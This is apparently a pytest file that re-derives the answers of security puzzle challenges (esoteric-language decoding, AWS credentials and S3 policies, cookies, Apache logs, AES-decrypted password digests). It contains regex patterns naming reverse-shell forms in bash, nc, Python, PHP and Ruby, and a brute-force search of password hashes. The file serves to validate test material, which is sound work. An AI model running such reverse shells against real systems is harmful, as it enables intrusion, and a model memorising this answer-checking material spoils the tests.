"""The truths of the families with cookies, policies, logs and odd languages, derived from their prompts alone.

Nothing of the project computes here: an interpreter of Brainfuck of our own, the standard library and the package
cryptography do.
"""

from __future__ import annotations

import base64
import configparser
import hashlib
import json
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import datetime
from fnmatch import fnmatchcase
from http.cookies import SimpleCookie
from ipaddress import ip_address, ip_network
from itertools import product
from typing import Any
from urllib.parse import parse_qsl, unquote

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from helpers.prompts import found

Challenges = dict[str, dict[str, str]]
Answers = dict[str, dict[str, Any]]

# https://www.dangermouse.net/esoteric/ook.html: two words for each sign.
APES = {
    ".?": ">", "?.": "<", "..": "+", "!!": "-", "!.": ".", ".!": ",", "!?": "[", "?!": "]",
}  # fmt: skip

# https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_identifiers.html, the table of unique identifiers.
PREFIXES = {"ABIA", "ACCA", "AGPA", "AIDA", "AIPA", "AKIA", "ANPA", "ANVA", "APKA", "AROA", "ASCA", "ASIA"}


POEM = """\
A librarian works among the shelves.
One word is all he ever said,
but how he ends it changes things:
he speaks in code that can be read.

So run his words, from first to last.
The text they print is not the end:
it wears a coat of sixty-four
plain characters. Look through it, friend.

Take off that coat, and you will find
six characters, no more, no less.
Keep every letter's case intact.
Those six are your answer. Do not guess.
"""


def printed(program: str) -> str:
    """What a program in Brainfuck prints: one sign after the other, brackets matched by counting."""
    assert set(program) <= set("+-<>[].")
    tape, head, at, out = [0] * 100, 0, 0, ""
    while at < len(program):
        sign = program[at]
        if sign in "<>":
            head += 1 if sign == ">" else -1
            assert head >= 0
        elif sign in "+-":
            tape[head] = (tape[head] + (1 if sign == "+" else -1)) & 255
        elif sign == ".":
            out += chr(tape[head])
        elif sign == "[" and tape[head] == 0:
            at = partner(program, at, 1)
        elif sign == "]" and tape[head] != 0:
            at = partner(program, at, -1)
        at += 1
    return out


def partner(program: str, at: int, step: int) -> int:
    """Where the bracket that belongs to the one at this place stands."""
    depth = 0
    while True:
        depth += {"[": 1, "]": -1}.get(program[at], 0)
        if depth == 0:
            return at
        at += step


def decoded(text: str) -> str:
    return base64.b64decode(text, validate=True).decode("ascii")


def brainfuck(challenge: str) -> str:
    (program,) = found(
        r"What does this Brainfuck program print\? It reads no input, and all cells are 0 at the start\. It "
        r"prints 20 ASCII letters and digits\. The answer is case-sensitive\.\n\n(\S+)",
        challenge,
    )
    return printed(program)


def three_layers(challenge: str) -> str:
    (packed,) = found(
        r"A token of nine letters and digits was hidden in three layers\. First the token was encoded in Base64\. Then a "
        r"Brainfuck program was written that prints the encoded text\. Finally the source code of that program was encoded in "
        r"Base64\. The result is below\. What is the token\?\n\n(\S+)",
        challenge,
    )
    return decoded(printed(decoded(packed)))


def ook(challenge: str) -> str:
    (speech,) = found(re.escape(POEM) + r"\n((?:Ook[.?!] ?)+)", challenge)
    marks = re.findall(r"Ook([.?!])", speech)
    return decoded(printed("".join(APES[a + b] for a, b in zip(marks[::2], marks[1::2], strict=True))))


def aws_credentials(challenge: str) -> str:
    user, packed = found(
        r"This is an AWS CLI credentials file, encoded in Base64\. What is the complete access key ID of the "
        r"profile (\S+)\?\n\n(\S+)",
        challenge,
    )
    file = configparser.RawConfigParser()
    file.read_string(decoded(packed))
    assert all(
        file.has_option(name, "aws_session_token") == (id_of(file, name)[:4] == "ASIA") for name in file.sections()
    )
    return id_of(file, user)


def id_of(file: configparser.RawConfigParser, user: str) -> str:
    return file.get(user, "aws_access_key_id")


def cookie(challenge: str) -> str:
    """The password of the account that the one cookie with a record calls active."""
    (request,) = found(
        r"A web application stores several accounts with their passwords in cookies\. The values of some cookies are "
        r"encoded in Base64, but not encrypted\. What is the password of the account that was active when the browser "
        r"sent this request\?\n\n```http\n(GET .+)\n```",
        challenge,
    )
    encoded = [value for name, value in cookies_of(request).items() if name != "lang" and not is_hex(value)]
    settings, accounts = sorted(
        (json.loads(decoded(value)) for value in encoded), key=lambda value: type(value) is list
    )
    assert set(settings) == {"theme", "active"} and 5 <= len(accounts) <= 7
    passwords = {account["user"]: account["password"] for account in accounts}
    assert len(set(passwords.values())) == len(passwords) == len(accounts)
    assert all(re.fullmatch(r"[a-z]{12}", password) for password in passwords.values())
    return str(passwords[settings["active"]])


def is_hex(text: str) -> bool:
    return re.fullmatch(r"[0-9a-f]{32}", text) is not None


def cookies_of(request: str) -> dict[str, str]:
    """The cookies of a request of HTTP, by their names."""
    first, *headers = request.split("\n")
    assert re.fullmatch(r"GET /\S* HTTP/1\.1", first)
    line = dict(header.split(": ", 1) for header in headers)["Cookie"]
    jar: SimpleCookie = SimpleCookie(line)
    assert len(jar) == line.count("; ") + 1
    return {name: morsel.value for name, morsel in jar.items()}


def aws_id_prefix(challenge: str) -> str:
    """Two of the twelve prefixes that the user guide of IAM has are those of access keys."""
    count, listed = found(
        r"Exactly one of these (\d+) identifiers is the ID of an AWS access key, either a long-term or a temporary one\. Its "
        r"prefix shows this, according to the documentation of AWS Identity and Access Management \(IAM\)\. The others are "
        r"identifiers of other IAM resources, or have prefixes that IAM does not use\. Which identifier is the access key "
        r"ID\?\n\n(.+)",
        challenge,
    )
    ids = listed.split("\n")
    assert len(ids) == len(set(ids)) == int(count) and all(re.fullmatch(r"[A-Z]{4}[A-Z2-7]{16}", id) for id in ids)
    (key,) = [id for id in ids if id[:4] in ("AKIA", "ASIA")]
    assert len({id[:4] for id in ids} & PREFIXES) == 11
    return key


def pin_among_decoys(challenge: str) -> str:
    """Spaces separate words here: the true sentence is three of them, the last one digits and a mark."""
    count, word, link, end, text = found(
        r"This text contains (\d+) numbers that look like PINs\. The true PIN is in the only sentence that "
        r"has exactly this form, where # stands for the digits:\n\n(\w+) (\w+|=) #(.)\n\nThe case of the "
        r"letters and the punctuation mark have to match\. Ignore what the other sentences claim\. What is "
        r"the true PIN\? Give only its digits\.\n\n(.+)",
        challenge,
    )
    assert len(set(re.findall(r"\d+", text))) == int(count)
    words = text.split()
    (pin,) = [
        last[:-1]
        for first, second, last in zip(words, words[1:], words[2:], strict=False)
        if (first, second, last[-1]) == (word, link, end) and last[:-1].isdigit()
    ]
    return pin


def s3_policy(challenge: str) -> str:
    (policy,) = found(
        r"This is the bucket policy of an Amazon S3 bucket\. .+ Exactly one object can be read \(s3:GetObject\) by "
        r"anybody, from anywhere, without signing in\. What is the ARN of this object\?\n\n```json\n(.+)\n```",
        challenge,
    )
    held = json.loads(policy, object_pairs_hook=without_repeats)
    assert held["Version"] == "2012-10-17" and len(policy.encode()) <= 20 * 1024
    statements = held["Statement"]
    assert len({statement["Sid"] for statement in statements}) == len(statements)
    named = {resource for statement in statements for resource in listed(statement["Resource"])}
    assert len({resource.partition("/")[0] for resource in named}) == 1
    # Objects that no statement names are tried as well, beside and below those that are.
    objects = {resource for resource in named if "/" in resource and "*" not in resource}
    unnamed = {f"{resource}{more}" for resource in named for more in (".bak", "/other.txt", "x")} - objects
    assert not [resource for resource in unnamed if "/" in resource and is_public(statements, resource)]
    (opened,) = [resource for resource in sorted(objects) if is_public(statements, resource)]
    return str(opened)


def without_repeats(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    assert len(dict(pairs)) == len(pairs)
    return dict(pairs)


def listed(held: Any) -> list[Any]:
    """One value or several, which a policy writes as a list."""
    return held if isinstance(held, list) else [held]


def is_public(statements: list[dict[str, Any]], resource: str) -> bool:
    """Whether a request without a signature, from anywhere, may read the object.

    By https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_evaluation-logic.html: a statement that denies
    wins, then one that allows; what neither does is denied.
    """
    effects = {statement["Effect"] for statement in statements if applies(statement, resource)}
    assert effects <= {"Allow", "Deny"}
    return "Allow" in effects and "Deny" not in effects


def applies(statement: dict[str, Any], resource: str) -> bool:
    assert set(statement) - {"Condition"} == {"Sid", "Effect", "Principal", "Action", "Resource"}
    return (
        is_anonymous(statement["Principal"])
        and any(fnmatchcase("s3:getobject", action.lower()) for action in listed(statement["Action"]))
        and any(fnmatchcase(resource, pattern) for pattern in listed(statement["Resource"]))
        and all(holds(*condition) for condition in statement.get("Condition", {}).items())
    )


def is_anonymous(principal: Any) -> bool:
    if isinstance(principal, str):
        assert principal == "*"
        return True
    assert set(principal) <= {"AWS", "Service", "CanonicalUser"}
    return "*" in listed(principal.get("AWS", []))


def holds(operator: str, tests: dict[str, str]) -> bool:
    """Whether the condition is met by a request from the address 192.0.2.7, which carries no keys of an organization or a
    virtual network: a key that is absent meets neither operator."""
    assert operator in ("IpAddress", "StringEquals") and len(tests) == 1
    ((key, value),) = tests.items()
    assert key in ("aws:SourceIp", "aws:SourceVpce", "aws:PrincipalOrgID")
    return key == "aws:SourceIp" and ip_address("192.0.2.7") in ip_network(value)


def encrypted_cookie(challenge: str) -> str:
    """The digest that the cookie holds."""
    label, key, request = found(
        r"A web application encrypted the cookie `(\w+)` of this request with AES-128 in CBC mode with PKCS #7 padding\. The "
        r"key is ([0-9a-f]{32}) in hexadecimal\. The value of the cookie is the Base64 encoding of the initialization vector "
        r"\(16 bytes\) followed by the ciphertext\. The plaintext contains the SHA-256 digest of the user's password in "
        r"hexadecimal\. The password consists of five lowercase letters from a to z and was hashed as ASCII text\. What is "
        r"the password\?\n\n```http\n(GET .+)\n```",
        challenge,
    )
    sent = base64.b64decode(cookies_of(request)[label], validate=True)
    decryptor = Cipher(algorithms.AES(bytes.fromhex(key)), modes.CBC(sent[:16])).decryptor()
    unpadder = padding.PKCS7(128).unpadder()
    plain = unpadder.update(decryptor.update(sent[16:]) + decryptor.finalize()) + unpadder.finalize()
    return dict(parse_qsl(plain.decode("ascii")))["password_sha256"]


ACCESS = re.compile(
    r'(?P<ip>\S+) - - \[(?P<time>[^\]]+)\] "(?P<method>[A-Z]+) (?P<path>\S+) HTTP/1\.1" (?P<status>\d{3}) (?P<size>\d+|-) '
    r'"(?P<referrer>[^"]*)" "(?P<agent>[^"]*)"'
)


def accesses(log: str) -> list[dict[str, str]]:
    """The lines of a log in the combined format of Apache, whose times never go back."""
    found = [ACCESS.fullmatch(line) for line in log.split("\n")]
    held = [match.groupdict() for match in found if match]
    assert len(held) == len(found) >= 50
    times = [datetime.strptime(line["time"], "%d/%b/%Y:%H:%M:%S %z") for line in held]
    assert times == sorted(times)
    assert all(ip_address(line["ip"]).version == 4 for line in held)
    return held


def leaked_file(challenge: str) -> str:
    """Who got the file: GET, and 200 with a body; all others who asked for it are other addresses."""
    leak, log = found(
        r"This is the access log of a web server in Apache's combined format, with times in UTC\. The file (\S+) has "
        r"leaked: exactly one of these requests downloaded it\. From which IP address did this request come\?"
        r"\n\n```\n(.+)\n```",
        challenge,
    )
    lines = accesses(log)
    assert not [line for line in lines if line["ip"].endswith((".0", ".255"))]
    asked = [line for line in lines if line["path"] == leak]
    assert len({line["ip"] for line in asked}) == len(asked) == 4
    (ip,) = [line["ip"] for line in asked if (line["method"], line["status"]) == ("GET", "200") and line["size"] != "-"]
    return ip


def commands(log: str) -> dict[str, str]:
    """What requests append to an address as a command, by who sent them."""
    texts = [(line["ip"], unquote(line["path"])) for line in accesses(log)]
    return {ip: text.split("127.0.0.1", 1)[1][1:] for ip, text in texts if "127.0.0.1" in text}


def log_of(challenge: str) -> str:
    (log,) = found(
        r"This is the access log .+ exactly one of them tries to open a reverse shell: a shell on the server "
        r"that connects to another machine and takes its commands from that machine\. From which IP address "
        r"was this request sent\? \(The question is about the sender, not about the address that the shell "
        r"would connect to\.\)\n\n```\n(.+)\n```",
        challenge,
    )
    return log


def reverse_shell(challenge: str) -> str:
    """The only command that names an address and a port outside and gives a shell the connection as its input."""
    found_commands = commands(log_of(challenge))
    assert 6 <= len(found_commands) <= 9
    shells = {ip: command for ip, command in found_commands.items() if any(way.search(command) for way in REVERSE)}
    ((sender, command),) = shells.items()
    assert sender not in re.findall(r"[\d.]+", command)
    return sender


PLACE = r"(?:\d{1,3}\.){3}\d{1,3}\W{1,3}\d{4,5}\b"
REVERSE = [
    re.compile(pattern)
    for pattern in (
        rf"bash -i >& /dev/tcp/{PLACE} 0>&1",
        rf"nc {PLACE} -e /bin/sh",
        rf"/bin/sh -i 2>&1\|nc {PLACE}",
        rf"create_connection\(\(\"{PLACE}.*\"/bin/sh\"\],stdin=s",
        rf"fsockopen\(\"{PLACE}.*proc_open\(\"/bin/sh\",\[\$s",
        rf"exec\(\"/bin/sh\",\[:in.*TCPSocket\.new\(\"{PLACE}",
    )
]


SOLVERS: list[Callable[[str], str]] = [
    brainfuck, three_layers, ook, aws_credentials, cookie, aws_id_prefix, pin_among_decoys, s3_policy, leaked_file,
    reverse_shell,
]  # fmt: skip


@pytest.mark.parametrize("solver", SOLVERS, ids=lambda solver: solver.__name__)
def test_every_truth_is_what_its_prompt_asks_for(
    solver: Callable[[str], str], challenges: Challenges, answers: Answers
) -> None:
    asked = challenges[solver.__name__]
    derived = {id: solver(challenge) for id, challenge in asked.items()}
    assert derived == {id: answers[id]["text"] for id in asked}


def test_passwords_have_the_digests_that_their_cookies_hold(challenges: Challenges, answers: Answers) -> None:
    for id, challenge in challenges["encrypted_cookie"].items():
        password = answers[id]["text"]
        assert re.fullmatch(r"[a-z]{5}", password)
        assert hashlib.sha256(password.encode("ascii")).hexdigest() == encrypted_cookie(challenge)


def test_a_password_is_the_only_one_of_its_first_letter(challenges: Challenges, answers: Answers) -> None:
    """All 26**4 of them; the other letters would take as long each."""
    id, challenge = next(iter(challenges["encrypted_cookie"].items()))
    wanted, first = bytes.fromhex(encrypted_cookie(challenge)), answers[id]["text"][0].encode("ascii")
    begun = hashlib.sha256(first)
    fitting = []
    for rest in product(b"abcdefghijklmnopqrstuvwxyz", repeat=4):
        tried = begun.copy()
        tried.update(bytes(rest))
        if tried.digest() == wanted:
            fitting.append((first + bytes(rest)).decode("ascii"))
    assert fitting == [answers[id]["text"]]


# How a language's own tool parses a program that it reads, without running it.
PARSERS = {
    "bash": (["bash", "-n"], ""),
    "php": (["php", "-l"], "<?php "),
    "ruby": (["ruby", "-c"], ""),
    "python3": ([sys.executable, "-c", "import ast, sys; ast.parse(sys.stdin.read())"], ""),
}


@pytest.mark.parametrize("language", PARSERS)
def test_shells_are_asked_for_in_programs_that_parse(
    language: str, each: int, challenges: Challenges, answers: Answers
) -> None:
    """One of each way: the command by bash, and what stands within it by its own language."""
    asked = [commands(log_of(text))[answers[id]["text"]] for id, text in challenges["reverse_shell"].items()]
    ways = {command.split()[0]: command for command in asked}
    assert set(ways) <= {"bash", "nc", "mkfifo", "python3", "php", "ruby"} and len(ways) == min(each, 6)
    command, before = PARSERS[language]
    if language not in ways:
        pytest.skip(f"no shell in {language} among {each} instances: set DIA_TRUTH_K")
    if shutil.which(command[0]) is None:
        pytest.skip(f"{language} is not installed")
    sources = list(ways.values()) if language == "bash" else [shlex.split(ways[language])[-1]]
    for source in sources:
        done = subprocess.run(command, input=before + source, capture_output=True, text=True, check=False)
        assert done.returncode == 0, (source, done.stderr)
